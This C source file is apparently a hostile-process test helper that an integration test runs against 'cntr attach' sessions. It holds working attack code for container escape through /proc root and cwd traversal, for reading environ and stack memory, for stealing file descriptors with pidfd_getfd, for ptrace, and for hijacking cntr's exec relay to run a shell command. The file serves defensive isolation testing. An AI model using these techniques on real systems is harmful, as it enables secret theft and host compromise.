/*
 * Test helper: a hostile process inside a container, run against a live
 * `cntr attach` session by tests/integration/test_hostile.py. Linked
 * statically, so it runs in any container root.
 *
 *   attacker [-t MS] [-c CANARY]... [-d HOSTDIR]... [-m MARKER] [-e CMD] [-x PID]... REPORT
 *
 * Until MS milliseconds have passed (default 5000) or SIGTERM arrives, it goes
 * over every /proc/N it can see (itself and -x pids excepted) and tries:
 *
 *   root, cwd       open /proc/N/root and /proc/N/cwd as directories
 *   root-read       read CANARY through /proc/N/root/CANARY
 *   cwd-read        read CANARY through /proc/N/cwd/../../(...)/CANARY
 *   root-create     create a file in HOSTDIR through /proc/N/root/HOSTDIR/
 *   cwd-create      the same through /proc/N/cwd/../../(...)/HOSTDIR/
 *   fd              read the links in /proc/N/fd (listing the numbers alone is no success)
 *   fd-read         open every /proc/N/fd/K (K < 72) and read it (a directory: list it)
 *   environ, maps   read /proc/N/environ and /proc/N/maps
 *   mem             open /proc/N/mem and read the stack (found through maps)
 *   ptrace          PTRACE_SEIZE (from a child that exits at once: that detaches)
 *   pidfd-getfd     pidfd_open + pidfd_getfd of fds 0..71 (the relay socket is at 64),
 *                   reading what it got
 *   relay           a stolen SOCK_SEQPACKET socket is used as cntr's exec relay,
 *                   asking for `/bin/sh -c CMD` (with -e)
 *   fd1-write       write MARKER into /proc/N/fd/1 (with -m; never into pid 1's)
 *
 * REPORT gets one line per outcome (written at once, unbuffered):
 *
 *   START <own pid>
 *   OK <attack> <pid> <comm> <what it got, escaped>   first success per attack and pid
 *   DENIED <attack> <pid> <comm> <errno name>         first failure per attack and pid
 *   SEEN <pid> <comm>                                 every attack was tried on pid
 *   DONE <rounds>
 *
 * What it steals is written escaped into REPORT, so a secret it read shows there.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

#define MAX_LIST 8
#define MAX_PIDS 4096
#define DETAIL_MAX 16384
/* fds tried by number: 0..20 and the relay socket cntr puts at 64 and above. */
#define MAX_FD 72

enum attack {
	A_ROOT,
	A_CWD,
	A_ROOT_READ,
	A_CWD_READ,
	A_ROOT_CREATE,
	A_CWD_CREATE,
	A_FD,
	A_FD_READ,
	A_ENVIRON,
	A_MAPS,
	A_MEM,
	A_PTRACE,
	A_PIDFD_GETFD,
	A_RELAY,
	A_FD1_WRITE,
	A_COUNT
};

static const char *const attack_names[A_COUNT] = {
	"root",	      "cwd",	"root-read",   "cwd-read", "root-create",
	"cwd-create", "fd",	"fd-read",     "environ",  "maps",
	"mem",	      "ptrace", "pidfd-getfd", "relay",	   "fd1-write",
};

struct target {
	pid_t pid;
	unsigned ok, denied;
	bool seen;
};

static struct target targets[MAX_PIDS];
static size_t ntargets;
static int report = -1;
static volatile sig_atomic_t stop;
static const char *canaries[MAX_LIST], *hostdirs[MAX_LIST];
static size_t ncanaries, nhostdirs;
static pid_t skipped[MAX_LIST];
static size_t nskipped;
static const char *marker, *relay_cmd;
static pid_t self;
/* "../" often enough to climb from any working directory to the top of its mount tree. */
static const char up[] = "../../../../../../../../../../../../../../../../";

/* What one attack collected over several fds. */
static char acc[DETAIL_MAX];
static size_t acc_used;

static void append(const char *fmt, ...)
{
	va_list ap;
	int n;

	if (acc_used >= sizeof(acc) - 1)
		return;
	va_start(ap, fmt);
	n = vsnprintf(acc + acc_used, sizeof(acc) - acc_used, fmt, ap);
	va_end(ap);
	if (n > 0)
		acc_used +=
			(size_t)n < sizeof(acc) - acc_used ? (size_t)n : sizeof(acc) - 1 - acc_used;
}

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static void line(const char *fmt, ...)
{
	static char buf[DETAIL_MAX + 512];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n > sizeof(buf) - 2)
		n = sizeof(buf) - 2;
	buf[n++] = '\n';
	if (write(report, buf, (size_t)n) < 0)
		_exit(3);
}

/* Printable ASCII as is, everything else (and backslash) as \xHH; at most DETAIL_MAX chars. */
static void escape(char *out, const char *in, size_t len)
{
	size_t o = 0;

	for (size_t i = 0; i < len && o + 5 < DETAIL_MAX; i++) {
		unsigned char c = (unsigned char)in[i];

		if (c >= 0x20 && c < 0x7f && c != '\\')
			out[o++] = (char)c;
		else
			o += (size_t)snprintf(out + o, 5, "\\x%02x", c);
	}
	out[o] = 0;
}

static struct target *target_of(pid_t pid)
{
	for (size_t i = 0; i < ntargets; i++)
		if (targets[i].pid == pid)
			return &targets[i];
	if (ntargets == MAX_PIDS)
		return NULL;
	targets[ntargets].pid = pid;
	return &targets[ntargets++];
}

static void comm_of(pid_t pid, char *comm, size_t size)
{
	char path[64];
	ssize_t n = -1;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		n = read(fd, comm, size - 1);
		close(fd);
	}
	if (n <= 0)
		n = snprintf(comm, size, "?");
	comm[n] = 0;
	for (char *p = comm; *p; p++)
		if (*p == '\n' || *p == ' ')
			*p = *p == ' ' ? '_' : 0;
}

static void succeeded(struct target *t, const char *comm, enum attack a, const char *detail)
{
	if (t->ok & (1u << a))
		return;
	t->ok |= 1u << a;
	line("OK %s %d %s %s", attack_names[a], (int)t->pid, comm, detail ? detail : "");
}

static void failed(struct target *t, const char *comm, enum attack a, int err)
{
	if (t->denied & (1u << a))
		return;
	t->denied |= 1u << a;
	line("DENIED %s %d %s %s", attack_names[a], (int)t->pid, comm, strerrorname_np(err) ?: "?");
}

static void outcome(struct target *t, const char *comm, enum attack a, int err, const char *detail)
{
	if (err)
		failed(t, comm, a, err);
	else
		succeeded(t, comm, a, detail);
}

/* Reads up to len bytes of an open fd (a directory: its names); returns the escaped text. */
static void read_fd(int fd, char *detail, size_t len)
{
	static char raw[DETAIL_MAX];
	struct stat st;
	size_t got = 0;

	if (len > sizeof(raw))
		len = sizeof(raw);
	if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
		int dup_fd = dup(fd);
		DIR *d = dup_fd >= 0 ? fdopendir(dup_fd) : NULL;
		struct dirent *e;

		if (!d) {
			if (dup_fd >= 0)
				close(dup_fd);
			snprintf(detail, DETAIL_MAX, "(directory, unlistable)");
			return;
		}
		while ((e = readdir(d)) && got + strlen(e->d_name) + 2 < len)
			got += (size_t)snprintf(raw + got, len - got, "%s/", e->d_name);
		closedir(d);
		escape(detail, raw, got);
		return;
	}
	while (got < len) {
		ssize_t n = pread(fd, raw + got, len - got, (off_t)got);

		if (n < 0 && errno == ESPIPE)
			n = read(fd, raw + got, len - got);
		if (n <= 0)
			break;
		got += (size_t)n;
	}
	escape(detail, raw, got);
}

/* Opens path and reads it; 0 with detail filled, or an errno. */
static int read_path(const char *path, char *detail, size_t len)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);

	if (fd < 0)
		return errno;
	read_fd(fd, detail, len);
	close(fd);
	return 0;
}

static int open_dir(const char *path, char *detail)
{
	return read_path(path, detail, 2048);
}

static int create_in(const char *dirpath, pid_t pid, char *detail)
{
	char path[4200];
	int fd;

	if (snprintf(path, sizeof(path), "%s/hostile-%d-%d", dirpath, (int)pid, (int)self) >=
	    (int)sizeof(path))
		return ENAMETOOLONG;
	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC, 0644);
	if (fd < 0 && errno == EEXIST)
		fd = open(path, O_WRONLY | O_NOFOLLOW | O_CLOEXEC);
	if (fd < 0)
		return errno;
	if (write(fd, "hostile\n", 8) < 0) {
		int e = errno;

		close(fd);
		return e;
	}
	close(fd);
	snprintf(detail, DETAIL_MAX, "created %s", path);
	return 0;
}

/* The first success over every path, else the first path's error. */
static void try_paths(struct target *t, const char *comm, enum attack a, const char *prefix,
		      const char *const *paths, size_t n, bool create)
{
	static char detail[DETAIL_MAX];
	int first = 0;

	for (size_t i = 0; i < n; i++) {
		char path[4200];
		const char *p = paths[i];
		int err;

		while (*p == '/')
			p++;
		snprintf(path, sizeof(path), "%s%s", prefix, p);
		err = create ? create_in(path, t->pid, detail) : read_path(path, detail, 4096);
		if (!err) {
			succeeded(t, comm, a, detail);
			return;
		}
		if (!first)
			first = err;
	}
	if (first)
		failed(t, comm, a, first);
}

static void attack_fds(struct target *t, const char *comm)
{
	static char detail[DETAIL_MAX], links[DETAIL_MAX];
	char dirpath[64];
	size_t used = 0;
	int read_err = 0, read_ok = 0;
	DIR *d;
	struct dirent *e;

	snprintf(dirpath, sizeof(dirpath), "/proc/%d/fd", (int)t->pid);
	/* Listing the fd numbers is plain DAC on the directory; the links are what counts. */
	d = opendir(dirpath);
	if (!d) {
		failed(t, comm, A_FD, errno);
	} else {
		int link_err = ENOENT, links_ok = 0;

		links[0] = 0;
		while ((e = readdir(d))) {
			char path[128], target[512];
			ssize_t n;

			if (e->d_name[0] == '.')
				continue;
			if (snprintf(path, sizeof(path), "%s/%s", dirpath, e->d_name) >=
			    (int)sizeof(path))
				continue;
			n = readlink(path, target, sizeof(target) - 1);
			if (n < 0) {
				link_err = errno;
				continue;
			}
			links_ok = 1;
			target[n] = 0;
			if (used + strlen(e->d_name) + (size_t)n + 4 < sizeof(links))
				used += (size_t)snprintf(links + used, sizeof(links) - used,
							 "%s=%s;", e->d_name, target);
		}
		closedir(d);
		escape(detail, links, used);
		if (links_ok)
			succeeded(t, comm, A_FD, detail);
		else
			failed(t, comm, A_FD, link_err);
	}
	/* Each fd by number too: the directory may be closed to us while its entries are not. */
	acc_used = 0;
	for (int k = 0; k < MAX_FD; k++) {
		char path[128];
		int err;

		snprintf(path, sizeof(path), "%s/%d", dirpath, k);
		err = read_path(path, detail, 1024);
		if (err == 0) {
			append("fd %d: %s; ", k, detail);
			read_ok = 1;
		} else if (err != ENOENT && !read_err) {
			read_err = err;
		}
	}
	if (read_ok)
		succeeded(t, comm, A_FD_READ, acc);
	else
		failed(t, comm, A_FD_READ, read_err ? read_err : ENOENT);
}

/* The [stack] mapping from a maps text; false if none. */
static bool stack_range(const char *maps, unsigned long *lo, unsigned long *hi)
{
	const char *s = strstr(maps, "[stack]");

	if (!s)
		return false;
	while (s > maps && s[-1] != '\n')
		s--;
	return sscanf(s, "%lx-%lx", lo, hi) == 2;
}

static void attack_mem(struct target *t, const char *comm)
{
	static char maps[65536], detail[DETAIL_MAX], stack[1 << 20];
	char path[64];
	unsigned long lo = 0, hi = 0;
	size_t used = 0;
	int fd, n;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)t->pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		failed(t, comm, A_MAPS, errno);
	} else {
		ssize_t r;

		while (used < sizeof(maps) - 1 &&
		       (r = read(fd, maps + used, sizeof(maps) - 1 - used)) > 0)
			used += (size_t)r;
		close(fd);
		maps[used] = 0;
		if (used == 0) {
			failed(t, comm, A_MAPS, EACCES);
		} else {
			escape(detail, maps, used < 2048 ? used : 2048);
			succeeded(t, comm, A_MAPS, detail);
		}
	}
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)t->pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		failed(t, comm, A_MEM, errno);
		return;
	}
	if (used && stack_range(maps, &lo, &hi)) {
		size_t len = hi - lo > sizeof(stack) ? sizeof(stack) : hi - lo;
		ssize_t r = pread(fd, stack, len, (off_t)(hi - len));

		if (r < 0) {
			failed(t, comm, A_MEM, errno);
			close(fd);
			return;
		}
		/* What the stack holds of the environment: its printable runs with a '='. */
		n = snprintf(detail, sizeof(detail), "read %zd bytes of the stack:", r);
		for (ssize_t i = 0; i < r; i++) {
			ssize_t j = i;

			while (j < r && stack[j] >= 0x20 && stack[j] < 0x7f)
				j++;
			if (j - i >= 12 && memchr(stack + i, '=', (size_t)(j - i)) &&
			    (size_t)n + 4 * (size_t)(j - i) + 2 < sizeof(detail)) {
				detail[n++] = ' ';
				escape(detail + n, stack + i, (size_t)(j - i));
				n += (int)strlen(detail + n);
			}
			i = j;
		}
		succeeded(t, comm, A_MEM, detail);
	} else {
		succeeded(t, comm, A_MEM, "opened /proc/N/mem (no stack found)");
	}
	close(fd);
}

static void attack_ptrace(struct target *t, const char *comm)
{
	int status;
	pid_t child = fork();

	if (child < 0)
		return;
	if (child == 0)
		_exit(ptrace(PTRACE_SEIZE, t->pid, 0, 0) == 0 ? 0 : (errno & 0x7f) + 1);
	while (waitpid(child, &status, 0) < 0 && errno == EINTR)
		;
	if (WIFEXITED(status))
		outcome(t, comm, A_PTRACE, WEXITSTATUS(status) ? WEXITSTATUS(status) - 1 : 0,
			"PTRACE_SEIZE succeeded");
}

/* Uses a stolen socket as cntr's exec relay; 0 when an exit status came back. */
static int use_relay(int sock, char *detail)
{
	static char query[8192];
	char tag = 'R', reply[8];
	int conv[2], fds[4];
	size_t n = 0;
	const char *fixed[] = { "", "", "off", "off", "/bin/sh", "-c", relay_cmd };
	struct iovec iov = { .iov_base = &tag, .iov_len = 1 };
	union {
		char buf[CMSG_SPACE(sizeof(fds))];
		struct cmsghdr align;
	} u;
	struct msghdr msg = { .msg_iov = &iov,
			      .msg_iovlen = 1,
			      .msg_control = u.buf,
			      .msg_controllen = sizeof(u.buf) };
	struct cmsghdr *c;
	struct pollfd pfd;
	ssize_t r;

	if (socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, conv) < 0)
		return errno;
	query[n++] = 'Q';
	for (size_t k = 0; k < sizeof(fixed) / sizeof(fixed[0]); k++) {
		size_t l = strlen(fixed[k]) + 1;

		memcpy(query + n, fixed[k], l);
		n += l;
	}
	if (send(conv[0], query, n, MSG_NOSIGNAL) < 0)
		goto fail;
	fds[0] = conv[1];
	fds[1] = fds[2] = fds[3] = report;
	memset(&u, 0, sizeof(u));
	c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(fds));
	memcpy(CMSG_DATA(c), fds, sizeof(fds));
	if (sendmsg(sock, &msg, MSG_NOSIGNAL) < 0)
		goto fail;
	close(conv[1]);
	pfd.fd = conv[0];
	pfd.events = POLLIN;
	if (poll(&pfd, 1, 3000) <= 0) {
		close(conv[0]);
		return ETIMEDOUT;
	}
	r = recv(conv[0], reply, sizeof(reply), 0);
	close(conv[0]);
	if (r < 1 || reply[0] != 'E')
		return ECONNRESET;
	snprintf(detail, DETAIL_MAX, "the relay ran /bin/sh -c '%s'", relay_cmd);
	return 0;
fail : {
	int e = errno;

	close(conv[0]);
	close(conv[1]);
	return e;
}
}

static void attack_pidfd(struct target *t, const char *comm)
{
	static char detail[DETAIL_MAX];
	int pidfd = (int)syscall(SYS_pidfd_open, t->pid, 0), err = 0;
	bool got = false;

	if (pidfd < 0) {
		failed(t, comm, A_PIDFD_GETFD, errno);
		return;
	}
	acc_used = 0;
	for (int k = 0; k < MAX_FD; k++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, k, 0);
		char path[64], link[512];
		ssize_t n;
		int type = 0;
		socklen_t len = sizeof(type);

		if (fd < 0) {
			/* EBADF says the fd is not there: the access itself was allowed. */
			if (!err || err == EBADF)
				err = errno;
			continue;
		}
		got = true;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = 0;
		detail[0] = 0;
		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) == 0) {
			if (type == SOCK_SEQPACKET && relay_cmd && !(t->ok & (1u << A_RELAY))) {
				int r = use_relay(fd, detail);

				outcome(t, comm, A_RELAY, r, detail);
			}
		} else {
			int rfd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);

			if (rfd >= 0) {
				read_fd(rfd, detail, 1024);
				close(rfd);
			}
		}
		append("fd %d (%s): %s; ", k, link, detail);
		close(fd);
	}
	if (got)
		succeeded(t, comm, A_PIDFD_GETFD, acc);
	else
		failed(t, comm, A_PIDFD_GETFD, err ? err : EBADF);
	close(pidfd);
}

static void attack_fd1(struct target *t, const char *comm)
{
	char path[64], detail[128];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/fd/1", (int)t->pid);
	fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd < 0) {
		failed(t, comm, A_FD1_WRITE, errno);
		return;
	}
	if (write(fd, marker, strlen(marker)) < 0) {
		failed(t, comm, A_FD1_WRITE, errno);
	} else {
		snprintf(detail, sizeof(detail), "wrote the marker into its fd 1");
		succeeded(t, comm, A_FD1_WRITE, detail);
	}
	close(fd);
}

static void attack(pid_t pid, unsigned round)
{
	static char detail[DETAIL_MAX];
	struct target *t = target_of(pid);
	char comm[64], prefix[128];

	if (!t)
		return;
	comm_of(pid, comm, sizeof(comm));
	snprintf(prefix, sizeof(prefix), "/proc/%d/root", (int)pid);
	outcome(t, comm, A_ROOT, open_dir(prefix, detail), detail);
	snprintf(prefix, sizeof(prefix), "/proc/%d/cwd", (int)pid);
	outcome(t, comm, A_CWD, open_dir(prefix, detail), detail);
	snprintf(prefix, sizeof(prefix), "/proc/%d/root/", (int)pid);
	try_paths(t, comm, A_ROOT_READ, prefix, canaries, ncanaries, false);
	try_paths(t, comm, A_ROOT_CREATE, prefix, hostdirs, nhostdirs, true);
	snprintf(prefix, sizeof(prefix), "/proc/%d/cwd/%s", (int)pid, up);
	try_paths(t, comm, A_CWD_READ, prefix, canaries, ncanaries, false);
	try_paths(t, comm, A_CWD_CREATE, prefix, hostdirs, nhostdirs, true);
	attack_fds(t, comm);
	snprintf(prefix, sizeof(prefix), "/proc/%d/environ", (int)pid);
	outcome(t, comm, A_ENVIRON, read_path(prefix, detail, DETAIL_MAX / 5), detail);
	attack_mem(t, comm);
	/* A fork per try: not every round, and no more once it worked. */
	if (!(t->ok & (1u << A_PTRACE)) && (!t->seen || round % 4 == 0))
		attack_ptrace(t, comm);
	attack_pidfd(t, comm);
	/* One marker per process is proof enough (and fills no pipe). */
	if (marker && pid != 1 && !(t->ok & (1u << A_FD1_WRITE)))
		attack_fd1(t, comm);
	if (!t->seen) {
		t->seen = true;
		line("SEEN %d %s", (int)pid, comm);
	}
}

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static bool is_skipped(pid_t pid)
{
	if (pid == self)
		return true;
	for (size_t i = 0; i < nskipped; i++)
		if (skipped[i] == pid)
			return true;
	return false;
}

static int usage(void)
{
	fprintf(stderr, "usage: attacker [-t MS] [-c CANARY]... [-d HOSTDIR]... [-m MARKER] "
			"[-e CMD] [-x PID]... REPORT\n");
	return 2;
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = on_term };
	long long end, ms = 5000;
	unsigned rounds = 0;
	int opt, nul;

	while ((opt = getopt(argc, argv, "t:c:d:m:e:x:")) != -1) {
		switch (opt) {
		case 't':
			ms = atoll(optarg);
			break;
		case 'c':
			if (ncanaries == MAX_LIST)
				return usage();
			canaries[ncanaries++] = optarg;
			break;
		case 'd':
			if (nhostdirs == MAX_LIST)
				return usage();
			hostdirs[nhostdirs++] = optarg;
			break;
		case 'm':
			marker = optarg;
			break;
		case 'e':
			relay_cmd = optarg;
			break;
		case 'x':
			if (nskipped == MAX_LIST)
				return usage();
			skipped[nskipped++] = (pid_t)atoi(optarg);
			break;
		default:
			return usage();
		}
	}
	if (optind != argc - 1)
		return usage();
	report = open(argv[optind], O_WRONLY | O_CREAT | O_TRUNC | O_APPEND | O_CLOEXEC, 0644);
	if (report < 0) {
		perror(argv[optind]);
		return 1;
	}
	/* Nothing of the test's own stdio stays open in here. */
	nul = open("/dev/null", O_RDWR);
	for (int k = 0; k < 3; k++) {
		if (nul >= 0)
			dup2(nul, k);
		else
			close(k);
	}
	if (nul > 2)
		close(nul);
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	signal(SIGPIPE, SIG_IGN);
	self = getpid();
	line("START %d", (int)self);
	end = now_ms() + ms;
	while (!stop && now_ms() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (!d)
			break;
		while (!stop && (e = readdir(d))) {
			char *tail;
			long pid = strtol(e->d_name, &tail, 10);

			if (*tail || pid <= 0 || is_skipped((pid_t)pid))
				continue;
			attack((pid_t)pid, rounds);
		}
		closedir(d);
		rounds++;
		usleep(2000);
	}
	line("DONE %u", rounds);
	return 0;
}
